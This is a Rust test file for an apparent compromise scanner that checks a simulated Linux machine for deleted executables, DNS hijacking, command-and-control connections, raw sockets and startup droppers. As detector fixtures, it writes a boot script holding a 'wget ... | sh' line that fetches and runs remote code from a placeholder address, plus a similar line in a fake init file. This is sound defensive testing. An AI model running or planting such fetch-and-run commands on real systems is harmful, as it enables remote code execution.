//! The engine over a machine in memory: races, blindness, full tables, who holds a socket.

use super::*;
use crate::facts::about::Endian;
use crate::host::memory::{Memory, Node};
use crate::intel::Intel;
use crate::limits::PIDS;
use crate::report::{Incident, Summary};

/// 198.51.100.7:443 is listed.
const INTEL: &[u8] = include_bytes!("../check/testdata/checks.gwi");

/// What a scan told, each finding as `check pid path`, each verdict as `check looked why`.
#[derive(Default)]
struct Heard {
    findings: Vec<String>,
    verdicts: Vec<String>,
    counts: Counts,
    ended: bool,
}

impl Sink for Heard {
    fn event(&mut self, event: &Event<'_>) -> Result<(), SinkFault> {
        match event {
            Event::Finding(finding) => {
                let pid = finding.pid.map_or(String::new(), |pid| format!(" {pid}"));
                self.findings.push(format!(
                    "{}{pid} {}",
                    finding.check,
                    String::from_utf8_lossy(finding.path)
                ));
            }
            Event::Check(check) => {
                let why = String::from_utf8_lossy(check.why);
                self.verdicts
                    .push(format!("{} {} {why}", check.check, check.looked.word()).trim_end().to_owned());
            }
            Event::Counts(counts) => self.counts = *counts,
            Event::End => self.ended = true,
            Event::Stage(_) | Event::Intel(_) => {}
        }
        Ok(())
    }

    fn incident(&mut self, _: &Incident<'_>) -> Result<(), SinkFault> {
        Ok(()) // The reporting process makes them.
    }

    fn summary(&mut self, _: &Summary<'_>) -> Result<(), SinkFault> {
        Ok(())
    }
}

fn scan_with(machine: &Memory, ids: &[&str], intel: &[Intel<'_>]) -> Heard {
    let selection = ids.iter().fold(Selection::NONE, |all, id| all.with(checks::index(id).unwrap()));
    let ctx = Ctx { intel, families: None, sieve: None, now: None, own_pids: [0, 0] };
    let plan = Plan {
        selection,
        ctx,
        intel_gap: b"",
        intel_named: false,
        baseline: None,
        baseline_gap: b"",
        turn: Turn { number: 0, of: 1 },
    };
    let mut heard = Heard::default();
    let mut scratch = Box::new(Scratch::new());
    scan(machine, &plan, &mut scratch, &mut heard).unwrap();
    assert!(heard.ended);
    heard
}

fn scan_for(machine: &Memory, ids: &[&str]) -> Heard {
    scan_with(machine, ids, &[Intel::open(INTEL).unwrap()])
}

#[test]
fn a_bot_is_told_once_after_two_looks() {
    let machine = Memory::new();
    machine.process(1, "init", "/sbin/init", b"init\0").process(812, "x", "/tmp/x (deleted)", b"x\0");
    let heard = scan_for(&machine, &["exe-deleted", "exe-volatile", "fake-kthread"]);
    assert_eq!(heard.findings, ["exe-deleted 812 /tmp/x"]);
    assert_eq!(heard.verdicts, ["exe-deleted yes", "exe-volatile yes", "fake-kthread yes"]);
    assert_eq!(heard.counts.processes, 2);
}

#[test]
fn what_changes_between_the_looks_is_no_accusation() {
    // The kernel's helper executes its program, an upgrade puts the file back, a process ends, a pid is reused.
    let machine = Memory::new();
    machine
        .process(5, "kworker/u8:0", "/sbin/modprobe", b"")
        .process(6, "dnsmasq", "/usr/sbin/dnsmasq (deleted)", b"dnsmasq\0")
        .process(7, "x", "/tmp/x", b"x\0")
        .process(8, "y", "/tmp/y", b"y\0")
        .file("rom/etc/banner", "")
        .on_pause(|machine| {
            machine.process(5, "modprobe", "/sbin/modprobe", b"modprobe\0");
            machine.file("usr/sbin/dnsmasq", "new").file("rom/usr/sbin/dnsmasq", "old");
            machine.remove("proc/7");
            let stat = "8 (y) S 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 999999 4096 1\n";
            machine.file("proc/8/stat", stat);
        });
    let heard = scan_for(&machine, &["exe-deleted", "exe-volatile", "fake-kthread"]);
    assert_eq!(heard.findings, [""; 0]);
    let why = "/proc: process 7 looked odd and ended before a second look; and 1 more";
    assert_eq!(heard.verdicts[1], format!("exe-volatile partly {why}"), "no acquittal either");
}

#[test]
fn a_line_that_comes_up_changes_resolvers_between_the_looks() {
    let machine = Memory::new();
    let resolvers = |machine: &Memory, ip: &str| {
        machine.file("etc/ppp/resolv.conf", format!("nameserver {ip}\n"));
    };
    resolvers(&machine, "192.0.2.1");
    machine.file("etc/resolv.conf", "nameserver 192.0.2.2\n");
    assert_eq!(scan_for(&machine, &["dns-hijack"]).findings, ["dns-hijack /etc/resolv.conf"]);
    machine.on_pause(move |machine| resolvers(machine, "192.0.2.2"));
    let heard = scan_for(&machine, &["dns-hijack"]);
    assert_eq!((heard.findings, heard.verdicts), (vec![], vec!["dns-hijack yes".to_owned()]));
}

#[test]
fn what_stands_before_a_process_is_said() {
    let machine = Memory::new();
    machine.process(1, "init", "/sbin/init", b"init\0").file("proc/812/empty", "");
    let why = "/proc: process 812 could not be read: something is mounted over it";
    assert_eq!(scan_for(&machine, &["exe-volatile"]).verdicts, [format!("exe-volatile partly {why}")]);
    machine
        .process(1, "init", "/sbin/init", b"init\0")
        .file("proc/812/stat", "1 (init) S 0 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 1 4096 1\n");
    assert_eq!(scan_for(&machine, &["exe-volatile"]).verdicts, [format!("exe-volatile partly {why}")]);
}

#[test]
fn a_process_goes_on_in_its_threads() {
    let machine = Memory::new();
    machine
        .file("proc/812/stat", "812 (x) Z 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 2 0 99 0 1\n")
        .file("proc/812/cmdline", "");
    machine.file("proc/812/task/812/stat", "").link("proc/812/task/813/exe", "/tmp/x (deleted)");
    assert_eq!(scan_for(&machine, &["exe-deleted"]).findings, ["exe-deleted 812 /tmp/x"]);
}

#[test]
fn more_accused_than_the_table_holds_are_still_told() {
    let machine = Memory::new();
    for pid in 100..120 {
        machine.process(pid, "x", &format!("/tmp/x{pid}"), b"x\0");
    }
    assert_eq!(scan_for(&machine, &["exe-volatile"]).findings.len(), 20);
}

#[test]
fn more_processes_than_the_table_holds_are_said() {
    let machine = Memory::new();
    for pid in 1..=u32::try_from(PIDS).unwrap() + 1 {
        machine.process(pid, "x", "/bin/x", b"x\0");
    }
    let heard = scan_for(&machine, &["exe-volatile"]);
    let expected =
        format!("exe-volatile partly /proc: more than {PIDS} processes; the rest was not looked at");
    assert_eq!(heard.verdicts, [expected]);
}

#[test]
fn what_cannot_be_seen_is_said() {
    let machine = Memory::new();
    machine.process(1, "init", "", b"init\0").put("proc/1/exe", Node::Fails(Fault::Denied));
    machine.process(2, "kthreadd", "", b"").put("proc/3/stat", Node::Fails(Fault::Gone));
    machine.file("proc/4/stat", "nonsense");
    let heard = scan_for(&machine, &["exe-volatile"]);
    let why = "/proc: the program of process 1 cannot be seen; and 2 more";
    assert_eq!(heard.verdicts, [format!("exe-volatile partly {why}")]);
    assert_eq!(heard.counts.processes, 2, "one has a directory and no process, one was not understood");
}

#[test]
fn nothing_seen_is_never_clean() {
    let live = scan_for(&Memory::new(), &["exe-volatile", "c2-address", "startup-dropper"]);
    assert_eq!(
        live.verdicts,
        [
            "exe-volatile no /proc: not found",
            "c2-address no /proc: not found",
            "startup-dropper no /etc: no startup file of any known system",
        ]
    );
    let tree = scan_for(&Memory::new().tree(None), &["exe-volatile", "c2-address", "startup-dropper"]);
    assert_eq!(
        tree.verdicts,
        [
            "exe-volatile na this tree holds no processes",
            "c2-address na this tree holds no processes",
            "startup-dropper no /etc: no startup file of any known system",
        ]
    );
    let mute = Memory::new().tree(None);
    mute.process(1, "init", "/sbin/init", b"init\0").file("proc/net/tcp", "");
    let why = "about.toml: its byte_order is needed to read /proc/net of a recording";
    assert_eq!(scan_for(&mute, &["c2-address"]).verdicts, [format!("c2-address no {why}")]);
    assert_eq!(scan_with(&connected(), &["c2-address"], &[]).verdicts, ["c2-address no"], "no indicators");
}

const HEADING: &str = "  sl  local_address rem_address   st tx_queue\n";
const C2: &str = "   0: 0F02000A:9C40 076433C6:01BB 01 0:0 0:0 0 0 0 4711 1\n";

fn connected() -> Memory {
    let machine = Memory::new();
    machine
        .process(812, "x", "/usr/bin/x", b"x\0")
        .link("proc/812/fd/3", "socket:[4711]")
        .link("proc/812/fd/4", "pipe:[4711]")
        .file("proc/net/tcp", format!("{HEADING}{C2}"))
        .file("proc/net/udp", HEADING);
    machine
}

#[test]
fn a_connection_names_the_process_that_holds_it() {
    let heard = scan_for(&connected(), &["c2-address"]);
    assert_eq!(heard.findings, ["c2-address 812 /usr/bin/x"]);
    assert_eq!(heard.verdicts, ["c2-address yes"]);
    assert_eq!(heard.counts.sockets, 1);
    assert!(scan_with(&connected(), &["c2-address"], &[]).findings.is_empty());
}

#[test]
fn a_process_that_no_longer_holds_it_is_not_named() {
    let machine = connected();
    machine.link("proc/812/fd/3", "socket:[1]");
    assert_eq!(scan_for(&machine, &["c2-address"]).findings, ["c2-address "]);
}

#[test]
fn rows_that_are_not_understood_are_counted_and_passed() {
    let machine = connected();
    let rows = format!("{HEADING}nonsense\n{}\n{C2}", "x".repeat(5000));
    machine.file("proc/net/tcp", rows).remove("proc/net/udp");
    let heard = scan_for(&machine, &["c2-address"]);
    assert_eq!(heard.findings.len(), 1);
    assert_eq!(heard.verdicts, ["c2-address partly proc/net/tcp: 2 rows not understood; and 1 more"]);
}

#[test]
fn a_recording_of_a_big_endian_router_is_read_in_its_order() {
    let machine = connected().tree(Some(Endian::Big));
    assert!(scan_for(&machine, &["c2-address"]).findings.is_empty(), "the same digits are another address");
    machine.file(
        "proc/net/tcp",
        format!("{HEADING}   0: 0A00020F:9C40 C6336407:01BB 01 0:0 0:0 0 0 0 4711 1\n"),
    );
    assert_eq!(scan_for(&machine, &["c2-address"]).findings, ["c2-address 812 /usr/bin/x"]);
}

#[test]
fn startup_files_links_and_what_they_lack() {
    let machine = Memory::new();
    machine
        .file("etc/rc.local", "#!/bin/sh\nwget -qO- http://192.0.2.1/x | sh\n")
        .file("etc/crontabs/root", "* * * * * /tmp/x\n")
        .file("etc/init.d/bot", b"\x7fELF\x01\x02wget x | sh\n")
        .file("etc/hotplug.d/iface/20-x", "/dev/.x/y\n")
        .link("etc/rc.d/S95x", "/tmp/.x")
        .link("etc/systemd/system/masked.service", "/dev/null")
        .link("etc/rc.d/S96gone", "../init.d/gone");
    let ids = ["startup-volatile", "startup-dropper"];
    let mut heard = scan_for(&machine, &ids);
    heard.findings.sort();
    assert_eq!(
        heard.findings,
        [
            "startup-dropper /etc/rc.local",
            "startup-volatile /etc/crontabs/root",
            "startup-volatile /etc/hotplug.d/iface/20-x",
            "startup-volatile /etc/rc.d/S95x",
        ]
    );
    assert_eq!(heard.verdicts, ["startup-volatile yes", "startup-dropper yes"]);
    assert_eq!(heard.counts.files, 4);

    let tree = machine.tree(None);
    tree.put("etc/rc.local", Node::Fails(Fault::Fifo));
    let verdicts = scan_for(&tree, &ids).verdicts;
    let why = "/etc/rc.local: a named pipe; and 2 more";
    assert_eq!(verdicts, [format!("startup-volatile partly {why}"), format!("startup-dropper partly {why}")]);
}

#[test]
fn a_file_is_read_as_far_as_the_limit() {
    let machine = Memory::new();
    let text = [b"/tmp/first\n".to_vec(), b"# padding\n".repeat(200_000), b"/tmp/last\n".to_vec()].concat();
    machine.file("etc/rc.local", &text);
    let heard = scan_for(&machine, &["startup-volatile"]);
    assert_eq!(heard.findings, ["startup-volatile /etc/rc.local"]);
    let why = format!("/etc/rc.local: only the first 1048576 of {} bytes were read", text.len());
    assert_eq!(heard.verdicts, [format!("startup-volatile partly {why}")]);
}

const PACKETS: &str = "sk       RefCnt Type Proto  Iface R Rmem   User   Inode\n\
                       ffff8880 3      3    0003   2     1 0      0      4711 \n";

fn sniffed() -> Memory {
    let machine = Memory::new();
    machine
        .process(812, "x", "/usr/bin/x", b"x\0")
        .file("var/lib/dpkg/info/x.list", "/usr/bin/y\n")
        .link("proc/812/fd/3", "socket:[4711]")
        .file("proc/net/packet", PACKETS)
        .file("proc/net/raw", HEADING)
        .link("proc/self/ns/pid", "pid:[4026531836]");
    machine
}

#[test]
fn a_packet_socket_names_the_process_that_holds_it() {
    let heard = scan_for(&sniffed(), &["raw-socket"]);
    assert_eq!(
        (heard.findings, heard.verdicts),
        (vec!["raw-socket 812 /usr/bin/x".into()], vec!["raw-socket yes".into()])
    );
}

#[test]
fn a_packet_socket_that_nobody_holds_is_looked_at_again() {
    let machine = sniffed();
    machine.link("proc/812/fd/3", "/dev/null");
    assert_eq!(scan_for(&machine, &["raw-socket"]).findings, ["raw-socket "]);
    // It is handed on, or closed, in the meantime.
    machine.on_pause(|machine| {
        machine.link("proc/812/fd/3", "socket:[4711]");
    });
    assert_eq!(scan_for(&machine, &["raw-socket"]).findings, ["raw-socket 812 /usr/bin/x"]);
    machine.link("proc/812/fd/3", "/dev/null").on_pause(|machine| {
        machine.file("proc/net/packet", "sk\n");
    });
    assert_eq!(scan_for(&machine, &["raw-socket"]).findings, [""; 0]);
    // Of a container, or where not all can be seen, somebody else may have it.
    let why = "raw-socket partly /proc: a raw socket is held by no process of this pid namespace";
    let inside = sniffed();
    inside.link("proc/812/fd/3", "/dev/null").link("proc/self/ns/pid", "pid:[4026532000]");
    assert_eq!(scan_for(&inside, &["raw-socket"]).verdicts, [why]);
    let recorded = sniffed().tree(Some(Endian::Little));
    recorded.link("proc/812/fd/3", "/dev/null");
    let why = "raw-socket partly /proc: a raw socket is held by no process that was recorded";
    assert_eq!(scan_for(&recorded, &["raw-socket"]).verdicts, [why]);
}

#[test]
fn a_check_fares_as_its_sources_do() {
    let machine = Memory::new();
    machine.process(1, "init", "/sbin/init", b"init\0").process(9, "x", "/usr/bin/x", b"x\0");
    // Nothing says what belongs here; then a list does.
    let why = "neither a firmware image, nor lists of packages, nor a baseline say what belongs here";
    assert_eq!(scan_for(&machine, &["exe-unowned"]).verdicts, [format!("exe-unowned na {why}")]);
    machine.file("var/lib/dpkg/info/x.list", "/sbin/init\n");
    let heard = scan_for(&machine, &["exe-unowned"]);
    assert_eq!(
        (heard.findings, heard.verdicts),
        (vec!["exe-unowned 9 /usr/bin/x".into()], vec!["exe-unowned yes".into()])
    );
    // A list that cannot be read makes it partly.
    machine.put("var/lib/dpkg/info/y.list", Node::Fails(Fault::Denied));
    assert_eq!(
        scan_for(&machine, &["exe-unowned"]).verdicts,
        ["exe-unowned partly y.list: permission denied"]
    );
    // Maps that cannot be read are a gap of who wants to see them, and of nobody else.
    machine.put("proc/9/maps", Node::Fails(Fault::Denied)).file("proc/1/maps", "");
    assert_eq!(
        scan_for(&machine, &["fake-kthread", "exec-anonymous"]).verdicts,
        ["fake-kthread yes", "exec-anonymous partly /proc: maps of process 9: permission denied"]
    );
}

#[test]
fn a_socket_of_a_family_whose_file_was_removed() {
    let machine = Memory::new();
    let row = |name: &str| format!("0: 00000002 00000000 00010000 0001 01 17342 {name}\n");
    let table =
        format!("Num RefCount Protocol Flags Type St Inode Path\n{}{}", row("/var/gwbot.pid"), row("/run/x"));
    machine.file("proc/net/unix", table);
    let heard = scan_for(&machine, &["family-trace"]);
    assert_eq!(heard.findings, ["family-trace /var/gwbot.pid"]);
    machine.file("var/gwbot.pid", "");
    assert_eq!(scan_for(&machine, &["family-trace"]).findings, ["family-trace /var/gwbot.pid"], "said once");
    machine.remove("var/gwbot.pid").file("proc/net/unix", "nonsense\nagain\n");
    let heard = scan_for(&machine, &["family-trace"]);
    assert_eq!(heard.findings, [""; 0]);
    assert!(
        heard.verdicts.iter().any(|verdict| verdict.contains("proc/net/unix: 1 rows not understood")),
        "{:?}",
        heard.verdicts
    );
}
